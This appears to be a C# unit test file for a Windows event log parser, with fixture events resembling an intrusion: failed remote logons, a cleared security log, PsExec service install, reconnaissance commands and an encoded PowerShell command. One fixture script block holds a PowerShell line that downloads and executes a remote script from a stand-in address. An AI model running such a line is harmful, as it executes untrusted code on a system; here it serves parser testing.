using System.Text;
using Hone.Corpus.Sources;

namespace Hone.Corpus.Tests.Sources.Logs;

public sealed class WindowsEventTests : IDisposable
{
    private const string Xml = """
        <?xml version="1.0" encoding="utf-16"?>
        <Events>
        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}"/>
          <EventID>4625</EventID><Version>0</Version><Level>0</Level><TimeCreated SystemTime="2024-03-01T10:00:00.1234567Z"/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID="4" ThreadID="5"/><Channel>Security</Channel><Computer>srv1.corp.example</Computer><Security/></System>
          <EventData><Data Name="SubjectUserSid">S-1-0-0</Data><Data Name="TargetUserName">admin</Data><Data Name="TargetDomainName">CORP</Data><Data Name="Status">0xc000006d</Data><Data Name="SubStatus">0xc000006a</Data><Data Name="LogonType">10</Data><Data Name="IpAddress">203.0.113.7</Data><Data Name="IpPort">50123</Data></EventData>
          <RenderingInfo Culture="en-US"><Message>An account failed to log on.</Message><Channel>Other</Channel></RenderingInfo></Event>
        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog"/><EventID>1102</EventID><TimeCreated SystemTime="2024-03-01T10:00:05Z"/><Channel>Security</Channel><Computer>srv1.corp.example</Computer></System>
          <UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-1</SubjectUserSid><SubjectUserName>mallory</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName></LogFileCleared></UserData></Event>
        </Events>
        """;

    private readonly TestFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("""{"EventID":4688,"Channel":"Security","Hostname":"WS1","TimeCreated":"2024-03-01T10:00:00.000Z","Level":"0","Keywords":"0x8020000000000000","NewProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c \"whoami & net user\"","ParentProcessName":"C:\\Windows\\explorer.exe","SubjectUserName":"kim","SubjectUserSid":"S-1-5-21-1","TokenElevationType":"%%1937","MandatoryLabel":"S-1-16-12288","Message":"A new process has been created."}""",
        "Security 4688 A process was started: NewProcessName=C:\\Windows\\System32\\cmd.exe; CommandLine=cmd.exe /c \"whoami & net user\"; ParentProcessName=C:\\Windows\\explorer.exe; SubjectUserName=kim; TokenElevationType=%%1937 (elevated token); MandatoryLabel=S-1-16-12288 (high)")]
    [InlineData("""{"@timestamp":"2024-03-01T10:00:00.000Z","host":{"name":"WS1"},"message":"Network connection detected","agent":{"ephemeral_id":"x"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":3,"computer_name":"WS1","provider_name":"Microsoft-Windows-Sysmon","event_data":{"Image":"C:\\a.exe","DestinationIp":"203.0.113.7","DestinationPort":"443","ProcessGuid":"{1}","Protocol":"tcp"}}}""",
        "Sysmon 3 A network connection: Image=C:\\a.exe; Protocol=tcp; DestinationIp=203.0.113.7; DestinationPort=443")]
    [InlineData("""{"EventTime":"2024-03-01 10:00:00","Hostname":"WS1","Keywords":-9214364837600034816,"EventType":"AUDIT_FAILURE","SeverityValue":4,"EventID":4771,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","TargetUserName":"svc_sql","ServiceName":"krbtgt/CORP","Status":"0x18","PreAuthType":"2","IpAddress":"::ffff:10.1.2.3","SourceModuleName":"in","SourceModuleType":"im_msvistalog"}""",
        "Security 4771 Kerberos pre-authentication failed: TargetUserName=svc_sql; ServiceName=krbtgt/CORP; Status=0x18 (wrong password); PreAuthType=2; IpAddress=::ffff:10.1.2.3")]
    [InlineData("""{"Event":{"#attributes":{"xmlns":"x"},"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"TimeCreated":{"#attributes":{"SystemTime":"2024-03-01T10:00:00.000000Z"}},"Channel":"System","Computer":"WS1"},"EventData":{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}""",
        "System 7045 A service was installed: ServiceName=PSEXESVC; ImagePath=%SystemRoot%\\PSEXESVC.exe; ServiceType=user mode service; StartType=demand start; AccountName=LocalSystem")]
    [InlineData("""{"EventID":16384,"Channel":"Application","SourceName":"Microsoft-Windows-Security-SPP","Hostname":"WS1","TimeCreated":"2024-03-01T10:00:00Z","Message":"Scheduled a\r\n\trestart."}""",
        "Application 16384: Scheduled a restart.")]
    public void Read_JsonOfEveryCollector_IsTold(string line, string told)
    {
        string text = _folder.Single("logs", line).Document.Text;

        Assert.StartsWith("# Windows events of 2024-03-01 10:00:00", text, StringComparison.Ordinal);
        Assert.Contains($"## Host WS1\n\n- 2024-03-01 10:00:00 {told}\n", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("utf-8")]
    [InlineData("utf-16")]
    public void Read_Xml_IsTold(string encoding)
    {
        _folder.WriteBytes("Security.xml", [.. Encoding.GetEncoding(encoding).GetPreamble(), .. Encoding.GetEncoding(encoding).GetBytes(Xml)]);

        string text = Assert.Single(_folder.Read("logs", "Security.xml")).Document.Text;

        Assert.Contains("""
            ## Host srv1.corp.example

            - 2024-03-01 10:00:00 Security 4625 A logon failed: TargetDomainName=CORP; TargetUserName=admin; LogonType=10 (remote desktop); Status=0xc000006d (bad user name or password); SubStatus=0xc000006a (wrong password); IpAddress=203.0.113.7
            - 10:00:05 Security 1102 The security log was cleared: SubjectDomainName=CORP; SubjectUserName=mallory
            """, text, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_XmlOnOneLine_IsTheSame()
    {
        string spread = _folder.Single("winevent", Xml).Document.Text;

        Assert.Equal(spread, _folder.Single("winevent", Xml.ReplaceLineEndings("")).Document.Text);
    }

    [Fact]
    public void Read_XmlCutAnywhere_KeepsWholeEvents()
    {
        for (int length = 0; length < Xml.Length; length += 7)
            LogFolder.AssertSound(_folder.ReadText("winevent", "a.xml", Xml[..length]));
    }

    [Fact]
    public void Read_ScriptBlock_IsShownAsWritten()
    {
        string text = _folder.Single("winevent", """{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WS1","TimeCreated":"2024-03-01T10:00:00Z","ScriptBlockText":"$a = 1\r\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')","Path":"C:\\t.ps1","ScriptBlockId":"1"}""").Document.Text;

        Assert.Contains("PowerShell 4104 PowerShell ran a script block: Path=C:\\t.ps1\n```\n$a = 1\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n```\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_EncodedCommandInManyEvents_IsToldOnceInADocument()
    {
        string encoded = new('Q', 3000);
        string lines = string.Join('\n', Enumerable.Range(0, 3).Select(i => $$"""{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1","TimeCreated":"2024-03-01T10:00:0{{i}}Z","Image":"C:\\{{i}}.exe","CommandLine":"powershell -enc {{encoded}}"}"""));

        string text = _folder.Single("logs", lines).Document.Text;

        Assert.Contains(encoded, text, StringComparison.Ordinal);
        Assert.Contains($"{encoded[..48]}... (as above, 3,000 characters)", text, StringComparison.Ordinal);
        Assert.True(text.Length < 4500);
    }

    [Fact]
    public void Read_LinesThatAreNoJson_AreBroken()
    {
        SourceItem[] items = _folder.ReadText("winevent", "a.json", """{"EventID":1102,"Channel":"Security"}""" + "\nnot json\n[1]\n");

        Assert.Equal([null, "broken"], items.Select(item => item.Verdict.Reason));
        Assert.Contains("2 such lines", items[1].Verdict.Detail, StringComparison.Ordinal);
    }
}
